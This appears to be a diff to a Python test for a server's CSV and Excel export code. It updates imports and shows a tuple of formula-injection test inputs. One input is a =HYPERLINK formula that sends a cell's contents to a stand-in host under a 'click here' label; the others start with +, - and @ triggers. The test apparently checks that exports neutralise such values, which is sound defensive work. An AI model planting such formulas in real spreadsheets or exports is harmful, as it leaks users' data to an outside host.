@@ -9,7 +9,8 @@ import math
 from openpyxl import load_workbook
 
 from server.exports import Filler, to_csv, to_xlsx
-from server.queries.stats import KEYS, StatsForm, StatsRow
+from server.queries.measures import KEYS
+from server.queries.stats_form import StatsForm, StatsRow
 
 TYPED = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点这里\")", "+86 139 0000 1234", "-2 人转学", "@SUM(A1)")
 
